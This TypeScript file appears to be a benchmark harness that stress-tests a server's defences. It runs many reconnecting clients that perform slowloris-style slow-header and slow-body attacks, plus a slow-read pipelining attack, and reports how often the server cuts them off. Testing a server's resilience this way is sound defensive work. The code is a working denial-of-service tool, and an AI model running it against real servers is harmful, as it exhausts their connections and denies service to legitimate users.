import { connect } from 'node:net';

// Clients that reconnect when they are cut off. Without REQUEST they are slow: they send one byte a second, half of
// them of headers, half of a body. With REQUEST they pipeline it many times and read a kilobyte of the responses a
// second. When its input ends, this program prints as JSON how often they were cut off, and the longest connection of
// each kind in seconds. Usage: node bench/attackers.ts URL CLIENTS [TIMES REQUEST]

const [address = '', clients = '100', times = '0', request = ''] = process.argv.slice(2);
const { hostname, port } = new URL(address);
const second = 1000;
const slowStarts = {
  headers: 'GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ',
  body: 'POST /functions/v1/submit-contact HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n',
};
const bytes = request.repeat(Number(times));

type Kind = keyof typeof slowStarts;

let cutOff = 0;
const longest = { headers: 0, body: 0 };
const open = new Set<() => void>();

/** Keeps a connection open until the server closes it, then opens the next. */
function attack(kind: Kind): void {
  const start = performance.now();
  const measure = () => {
    longest[kind] = Math.max(longest[kind], (performance.now() - start) / second);
  };
  open.add(measure);
  const socket = connect(Number(port), hostname, () => socket.write(bytes || slowStarts[kind]));
  const timer = setInterval(() => (bytes ? socket.read(1024) : socket.writable && socket.write('x')), second);
  // Without a 'data' listener the socket would read nothing, not even the end of the connection.
  if (bytes) socket.on('readable', () => undefined);
  else socket.resume();
  socket.on('error', () => undefined);
  socket.on('close', () => {
    clearInterval(timer);
    open.delete(measure);
    measure();
    cutOff += 1;
    setTimeout(attack, bytes ? second : 0, kind);
  });
}

// Start them at different times within a second, like independent clients.
for (let index = 0; index < Number(clients); index += 1) {
  setTimeout(attack, (index * second) / Number(clients), index % 2 ? 'headers' : 'body');
}

process.stdin.resume().on('end', () => {
  for (const measure of open) measure();
  process.stdout.write(JSON.stringify({ cutOff, longest }), () => process.exit(0));
});
